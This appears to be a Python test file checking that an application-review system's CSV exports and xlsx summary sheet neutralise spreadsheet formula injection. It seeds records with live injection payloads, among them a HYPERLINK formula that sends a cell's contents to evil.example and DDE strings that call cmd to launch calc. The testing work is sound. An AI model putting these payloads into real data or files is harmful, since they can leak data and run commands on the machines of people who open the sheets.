"""Finding 2: text a spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``, a tab or
a carriage return first) is neutralised in every spreadsheet we write — the CSV exports and the
summary sheet — while ordinary values, numbers and dates come out as before."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, update
from sqlmodel import col

from models.application import Application, AuditEvent, Person
from models.db import read_scope, session_scope
from models.org import Organisation
from outputs.summary_sheet import build_sheet
from tests.factories import drafts, set_profiles, stored_cycle
from zhicheng import export

pytestmark = pytest.mark.usefixtures("db")

NAME = '=HYPERLINK("http://evil.example/?d="&D7,"点此核对")'
UNIT = "-2+3+cmd|' /C calc'!A0"
REASON = '+HYPERLINK("http://evil.example")'
REMARK = "@SUM(1+1)*cmd|' /C calc'!A0"
OPINION = "\t=1+1"
TITLE = "\r=1+1"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def hostile_cycle() -> str:
    """One recommended application whose name, unit, remark, opinion and a return reason
    are formulas, with an ordinary number and date beside them."""
    cycle = stored_cycle()
    (app_id,) = drafts(cycle, 1)
    with session_scope() as session:
        application = session.get(Application, app_id)
        assert application is not None
        session.execute(
            update(Person).where(col(Person.id_number) == application.person_id).values(name=NAME)
        )
        session.execute(
            update(Organisation)
            .where(col(Organisation.id) == application.unit_id)
            .values(name=UNIT)
        )
        application.status = "recommended"
        set_profiles(
            session,
            [app_id],
            {
                "remark": REMARK,
                "review_opinion": OPINION,
                "current_title": TITLE,
                "years_in_field": 12,
                "paper_count": "-3",
                "work_start": "2001-07-01",
            },
        )
        session.execute(
            insert(AuditEvent).values(
                cycle_id=cycle,
                application_id=app_id,
                at=dt.datetime(2024, 10, 1, 2, tzinfo=dt.UTC),
                actor="单位",
                action="return",
                from_status="submitted",
                to_status="returned",
                reason=REASON,
            )
        )
    return cycle


def csv_rows(kind: str, cycle: str) -> list[dict[str, str]]:
    out = io.StringIO()
    export.write(kind, cycle, "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.lstrip("+-").replace(".", "", 1).isdigit()


def test_csv_exports_neutralise_formulas_and_keep_ordinary_values() -> None:
    cycle = hostile_cycle()
    (application,) = csv_rows("applications", cycle)
    assert application["name"] == "'" + NAME
    assert application["unit"] == "'" + UNIT
    assert application["return_count"] == "0" and application["locked"] == "False"
    assert application["id_number"][6:14] == "********"
    (audit,) = [row for row in csv_rows("audit", cycle) if row["action"] == "return"]
    assert audit["reason"] == "'" + REASON
    assert audit["at"] == "2024-10-01T10:00:00+08:00"
    for kind in export.KINDS:
        for row in csv_rows(kind, cycle):
            for value in row.values():
                assert not value.startswith(DANGEROUS) or is_plain_number(value), (kind, value)


def test_the_summary_sheet_holds_no_formula(tmp_path: Path) -> None:
    cycle = hostile_cycle()
    out = tmp_path / "汇总表.xlsx"
    with read_scope() as session:
        assert build_sheet(session, cycle, out, contact="=1+1", phone="-1") == 1
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [str(cell.value) for cell in cells]
    assert all(not t.startswith(DANGEROUS) or is_plain_number(t) for t in texts), texts
    (data,) = [[c.value for c in row] for row in sheet.iter_rows() if row[0].value == "1"]
    assert data[1:3] == ["'" + UNIT, "'" + NAME]
    assert "'" + REMARK in data and "'" + OPINION in data
    assert "'\n=1+1" in data  # TITLE: XML reads a carriage return back as a line feed
    # ordinary values exactly as before: the date as 2001-07-01, numbers as written
    assert "2001-07-01" in data and "12" in data and "-3" in data
